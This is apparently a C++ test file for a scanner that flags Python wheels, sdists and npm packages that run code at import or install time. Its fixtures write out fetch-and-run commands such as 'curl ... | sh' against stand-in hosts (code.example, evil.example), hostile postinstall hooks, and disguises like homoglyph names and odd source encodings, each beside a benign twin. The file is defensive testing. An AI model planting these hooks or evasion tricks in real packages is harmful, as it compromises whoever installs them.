// What runs by itself in a package and is written so that a reader passes over it: each disguise beside its honest twin.
#include <catch2/catch.hpp>

#include "base/text.hpp"
#include "formats/package_traits.hpp"
#include "packages.hpp"

using namespace headgate;
using namespace headgate::recipes;
using namespace headgate::tests;

namespace {

/// What a module of a wheel does when it is imported.
Outcome module(const std::string& source) { return wheel({{"pkg/__init__.py", source}}); }

/// A package of npm whose hook `postinstall` is this command; `more` are other scripts: ", \"x\": \"...\"".
Outcome hook(const std::string& command, Files files = {}, const std::string& more = "", const std::string& keys = "") {
    return npm(R"({"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": ")" + command + "\"" + more + "}" + keys + "}", std::move(files));
}

const std::string kFetch = "import os,urllib.request;exec(urllib.request.urlopen('https://code.example/x').read())\n";
const std::string kPipe = "curl https://code.example/x | sh\n";
const std::string kRunsPipe = "require('child_process').execSync('curl https://code.example/x | sh')\n";

}  // namespace

TEST_CASE("wheel: .pth files and start-up modules anywhere below .data") {
    const std::string site = "pkg-1.0.data/data/lib/python3.11/site-packages/";
    CHECK(wheel({{site + "z.pth", kFetch}}).has_trait("downloaded-code-at-start"));
    CHECK(wheel({{site + "sitecustomize.py", kFetch}}).has_trait("downloaded-code-at-start"));
    CHECK(wheel({{site + "usercustomize.py", "x = 1\n"}}).has_trait("customizes-interpreter"));
    CHECK(wheel({{site + "sitecustomize/__init__.py", kFetch}}).has_trait("downloaded-code-at-start"));
    CHECK(wheel({{site + "paths.pth", "./elsewhere\n"}}).traits().empty());
    CHECK(wheel({{"pkg-1.0.data/data/share/pkg/site.txt", "import os\n"}}).traits().empty());
    CHECK(wheel({{"pkg-1.0.data/scripts/sitecustomize.py", "x = 1\n"}}).traits().empty());
}

TEST_CASE("wheel: lines of a .pth file end as Python ends them") {
    CHECK(wheel({{"z.pth", "x\r" + kFetch}}).has_trait("downloaded-code-at-start"));
    CHECK(wheel({{"z.pth", "\xEF\xBB\xBF" + kFetch}}).has_trait("downloaded-code-at-start"));
    CHECK(wheel({{"z.pth", "# a\r\n./pkg\r\n"}}).traits().empty());
    CHECK(wheel({{"z.pth", std::string(2000, '\n') + kFetch}}).has_trait("oversized-source"));
}

TEST_CASE("Python: an encoding under which the source is other text") {
    for (const char* const name : {"utf-7", "raw_unicode_escape", "unicode_escape", "rot13", "hex", "base64", "zlib"}) {
        CAPTURE(name);
        CHECK(module("# -*- coding: " + std::string(name) + " -*-\nx = 1\n").has_trait("unusual-encoding"));
    }
    for (const char* const name : {"utf-8", "latin-1", "cp1252", "iso-8859-7", "ascii", "cp1253"}) {
        CAPTURE(name);
        CHECK(module("# -*- coding: " + std::string(name) + " -*-\nx = 1\n").traits().empty());
    }
}

TEST_CASE("Python: an encoding in which a letter ends in a backslash") {
    CHECK(module("# coding: shift_jis\nx = '\x95\\'; exec(y) #'\n").has_trait("unusual-encoding"));
    CHECK(module("# coding: shift_jis\nx = '\x82\xA0'\ny = 'a\\n'\n").traits().empty());
    CHECK(module("# coding: utf-8\nx = '\xC3\xA4\\n'\n").traits().empty());
}

TEST_CASE("Python: names in letters that are ASCII to Python") {
    const std::string call = "ec(urllib.request.urlopen('https://code.example/x').read())\n";
    for (const char* const first : {"\xEF\xBD\x85x", "e\xF0\x9D\x95\xA9", "\xE2\x84\xAFx"}) {      // full width e, double-struck x, script e
        CAPTURE(first);
        CHECK(module("import urllib.request\n" + std::string(first) + call).has_trait("downloaded-code-at-import"));
    }
    CHECK(module("gr\xC3\xB6\xC3\x9F" "e = 1\nname = '\xEF\xBD\x85xec'\n").traits().empty());
    CHECK(module("import urllib.request\n\xEF\xBD\x89" "f = 1\n").traits().empty());            // a name, and no word of the language
}

TEST_CASE("Python: a function that is handed to what calls it") {
    const std::string read = "urllib.request.urlopen('https://code.example/x').read()";
    for (const std::string& call : {"list(map(exec, [" + read + "]))", "functools.partial(exec, " + read + ")()", "threading.Thread(target=exec, args=(" + read + ",)).start()",
                                    "threading.Thread(target=lambda: exec(" + read + ")).start()", "atexit.register(lambda: exec(" + read + "))", "x = [" + read + "]\nfor f in (exec,): f(x[0])"}) {
        CAPTURE(call);
        CHECK(module("import urllib.request, functools, threading, atexit\n" + call + "\n").has_trait("downloaded-code-at-import"));
    }
    CHECK(module("import base64\nlist(map(exec, [base64.b64decode('YQ==')]))\n").has_trait("decoded-code-at-import"));
    CHECK(module("import functools, threading\ny = list(map(int, ['1']))\nrun = functools.partial(print, 'x')\nt = threading.Thread(target=lambda: print(1))\n").traits().empty());
    CHECK(module("import subprocess, functools\nrun = functools.partial(subprocess.run, check=True)\n").traits().empty());
    // The network, and a method that is called so: not the function.
    CHECK(module("import urllib.request\nurllib.request.urlopen('https://code.example/x')\nmodel.eval()\nrun = model.eval\nf(eval=True)\n").traits() ==
          "network-at-import: urllib.request.urlopen(https://code.example/x)\n");
    CHECK(module("import urllib.request\nurllib.request.urlopen('https://code.example/x')\ndef f():\n    return exec\n").traits() == "network-at-import: urllib.request.urlopen(https://code.example/x)\n");
}

TEST_CASE("Python: what an answer of http.client says is fetched") {
    CHECK(module("import http.client\nc = http.client.HTTPSConnection('code.example')\nc.request('GET', '/x')\nexec(c.getresponse().read())\n").has_trait("downloaded-code-at-import"));
    CHECK_FALSE(module("import http.client\nc = http.client.HTTPSConnection('code.example')\nc.request('GET', '/x')\nprint(c.getresponse().read())\n").has_trait("downloaded-code-at-import"));
}

TEST_CASE("Python: a command in two pieces") {
    for (const char* const source : {"import os\nc = 'curl https://code.example/x'; os.popen(c + '|sh')\n", "import os\nc = 'wget -qO- https://code.example/x'\nos.system(f'{c} | sh')\n",
                                     "import os\nc = 'curl https://code.example/x'\nos.system('%s | sh' % c)\n"}) {
        CAPTURE(source);
        CHECK(module(source).has_trait("fetches-and-runs-at-import"));
    }
    CHECK_FALSE(module("import os\nc = 'curl https://code.example/x'\nos.system(c)\n").has_trait("fetches-and-runs-at-import"));
    CHECK_FALSE(module("import os\nc = 'ls'\nos.system(c + ' | sh')\n").has_trait("fetches-and-runs-at-import"));
}

TEST_CASE("npm: the file that a hook runs is followed, whatever runs it") {
    const Files files = {{"i.js", kRunsPipe}, {"lib/i.js", kRunsPipe}, {"lib/index.js", kRunsPipe}, {"index.js", kRunsPipe}, {"i.txt", kPipe}, {"i.py", "import os\nos.system('curl https://code.example/x | sh')\n"},
                         {"pk/__main__.py", "import os\nif __name__ == '__main__':\n    os.system('curl https://code.example/x | sh')\n"}, {"run", "#!/usr/bin/env node\n" + kRunsPipe}};
    for (const char* const command : {"node .", "node ./", "node ./lib", "cd lib && node i", "cd lib && node .", "env node i.js", "env -u X A=b node i", "npm -s run x", "npm run --silent x", "cat i.txt | sh", "sh i.txt", "sh -e ./i.txt",
                                      "bash < i.txt", "python3 i.py", "python3 pk", "python -m pk", "/usr/bin/node i", "./run", "sh -c 'node i'", "no\\\\de i.js", "node --require=./i.js i", "sudo -E node i.js"}) {
        CAPTURE(command);
        const Outcome run = hook(command, files, R"(, "x": "node i.js")");
        CHECK(run.has_trait("fetches-and-runs-at-install"));
        CHECK_FALSE(run.has_trait("unknown-install-command"));
    }
    CHECK(hook("node .", {{"start.js", kRunsPipe}}, "", R"(, "main": "./start")").has_trait("fetches-and-runs-at-install"));
    CHECK(hook("sh go.sh", {{"go.sh", "#!/bin/sh\nset -e\nnode lib/i.js\n"}, {"lib/i.js", kRunsPipe}}).has_trait("fetches-and-runs-at-install"));
}

TEST_CASE("npm: what honest hooks run is no finding") {
    const std::string silent = "runs-at-install: postinstall: ";
    for (const char* const command : {"node-gyp rebuild", "prebuild-install || node-gyp rebuild", "husky install", "patch-package", "tsc", "npm run build"}) {
        CAPTURE(command);
        const Outcome outcome = hook(command, {{"index.js", "x = 1"}}, R"(, "build": "tsc")");
        CHECK_FALSE(outcome.has_trait("fetches-and-runs-at-install"));
        CHECK_FALSE(outcome.has_trait("unknown-install-command"));
    }
    const Files files = {{"i.js", "console.log('thank you')"}, {"i.txt", "echo thank you\n"}, {"i.py", "print('thank you')\n"}, {"index.js", "x = 1"}, {"unused.js", kRunsPipe}};
    for (const char* const command : {"node .", "cd . && node i", "cat i.txt | sh", "sh i.txt", "python3 i.py", "node i.js https://docs.example/"}) {
        CAPTURE(command);
        CHECK(hook(command, files).traits() == silent + command + "\n");
    }
    CHECK(hook("node missing", files).has_trait("unknown-install-command"));
    CHECK(hook("make all", files).traits() == silent + "make all\nunknown-install-command: make all\n");
    CHECK_FALSE(hook("npm run again", {}, R"(, "again": "npm run again")").has_trait("fetches-and-runs-at-install"));
}

TEST_CASE("npm: hooks of what is bundled run too") {
    const auto manifest = [](const std::string& command) { return R"({"name": "a", "version": "1.0.0", "scripts": {"postinstall": ")" + command + "\"}}"; };
    for (const char* const folder : {"node_modules/a", "node_modules/@s/a", "node_modules/b/node_modules/a"}) {
        CAPTURE(folder);
        const std::string at = std::string(folder) + "/";
        CHECK(hook("true", {{at + "package.json", manifest("curl https://code.example/x | sh")}}).has_trait("fetches-and-runs-at-install"));
        CHECK(hook("true", {{at + "package.json", manifest("node i")}, {at + "i.js", kRunsPipe}}).has_trait("fetches-and-runs-at-install"));
        CHECK_FALSE(hook("true", {{at + "package.json", manifest("node-gyp rebuild")}, {at + "i.js", kRunsPipe}}).has_trait("fetches-and-runs-at-install"));
        CHECK_FALSE(hook("true", {{at + "test/package.json", manifest("curl https://code.example/x | sh")}}).has_trait("fetches-and-runs-at-install"));
    }
}

TEST_CASE("npm: a package that a hook fetches from a place") {
    for (const char* const command : {"npx https://evil.example/x.tgz", "npx -y git+https://evil.example/x.git", "npm exec -- https://evil.example/x.tgz", "npx -p https://evil.example/x.tgz x", "npm install https://evil.example/x.tgz",
                                      "pnpm dlx github:evil/x", "deno run -A https://evil.example/x.ts"}) {
        CAPTURE(command);
        CHECK(hook(command).has_trait("fetches-and-runs-at-install"));
    }
    for (const char* const command : {"npx husky", "npm install --registry https://npm.example/", "npx open-page https://docs.example/", "npm run docs -- https://docs.example/"}) {
        CAPTURE(command);
        CHECK_FALSE(hook(command, {}, R"(, "docs": "true")").has_trait("fetches-and-runs-at-install"));
    }
}

TEST_CASE("JavaScript: roundabout ways to code and to programs") {
    const auto run = [](const std::string& source) { return hook("node i.js", {{"i.js", source}}); };
    CHECK(run("fetch('https://code.example/x').then(r=>r.text()).then(eval)").has_trait("downloaded-code-at-install"));
    CHECK_FALSE(run("fetch('https://code.example/x').then(r=>r.text()).then(console.log)").has_trait("downloaded-code-at-install"));
    for (const char* const source : {"import('child_process').then(c => c.execSync('curl https://code.example/x | sh'))", "import('node:child_process').then(async ({ exec: run }) => { run('curl https://code.example/x | sh') })",
                                     "import(`child_process`).then((m) => { m.execSync('curl https://code.example/x | sh') })",
                                     "#!/usr/bin/env node\nimport(\"child_process\").then(function (m) { m.execSync('curl https://code.example/x | sh') })", "(await import('child_process')).execSync('curl https://code.example/x | sh')",
                                     "process.binding('spawn_sync').spawn({ args: ['sh', '-c', 'curl https://code.example/x | sh'] })"}) {
        CAPTURE(source);
        CHECK(run(source).has_trait("fetches-and-runs-at-install"));
    }
    CHECK(run("import('fs').then(m => m.readFileSync('x'))").traits() == "runs-at-install: postinstall: node i.js\n");
    CHECK(run("import('child_process').then(m => m.execSync('ls'))").traits() == "process-at-install: child_process.execSync(ls)\nruns-at-install: postinstall: node i.js\n");
}

TEST_CASE("sdist: what is fetched from a place for the build") {
    const std::string system = "[build-system]\nbuild-backend = \"setuptools.build_meta\"\nrequires = ";
    for (const Files& files : {Files{{"pyproject.toml", system + "[\"setuptools\", \"x @ https://evil.example/x.whl\"]\n"}}, Files{{"pyproject.toml", system + "[\"x[a]@git+https://evil.example/x\"]\n"}},
                               Files{{"pyproject.toml", system + "[]\n[tool.hatch.build.hooks.custom]\ndependencies = [\"x @ https://evil.example/x.whl\"]\n"}},
                               Files{{"setup.py", "from setuptools import setup\nsetup(setup_requires=['x @ https://evil.example/x.whl'])\n"}},
                               Files{{"setup.py", "from setuptools import setup\nsetup(setup_requires=['x'], dependency_links=['https://evil.example/x'])\n"}},
                               Files{{"setup.py", "from setuptools import setup\nsetup(**{'setup_requires': ['x'], 'dependency_links': ['https://evil.example/x']})\n"}},
                               Files{{"setup.cfg", "[options]\nsetup_requires =\n    x @ https://evil.example/x.whl\n"}}, Files{{"setup.cfg", "[options]\nsetup_requires = x\ndependency_links = https://evil.example/x\n"}}}) {
        CAPTURE(files[0].second);
        CHECK(sdist(files).has_trait("direct-url-dependency"));
    }
    for (const Files& files : {Files{{"pyproject.toml", system + "[\"setuptools>=61\", \"wheel; python_version < '3.9'\"]\n[tool.hatch.build]\ninclude = [\"a@b\"]\n"}}, Files{{"setup.cfg", "\n[metadata]\nurl = https://docs.example/\nauthor_email = a@b.example\nx\n="}},
                               Files{{"setup.py", "from setuptools import setup\nsetup(url='https://docs.example/', author_email='a@b.example', setup_requires=['x'], download_url='https://code.example/x.tar.gz')\n"}}}) {
        CAPTURE(files[0].second);
        CHECK_FALSE(sdist(files).has_trait("direct-url-dependency"));
    }
}

TEST_CASE("what a trait shows is short and UTF-8, whatever was there") {
    const std::string bytes(500, '\x91');
    CHECK(is_utf8(formats::shortened(bytes)));
    CHECK(formats::shortened(bytes).size() <= 200);
    CHECK(formats::shortened("a  \t b\nc") == "a b c");
}
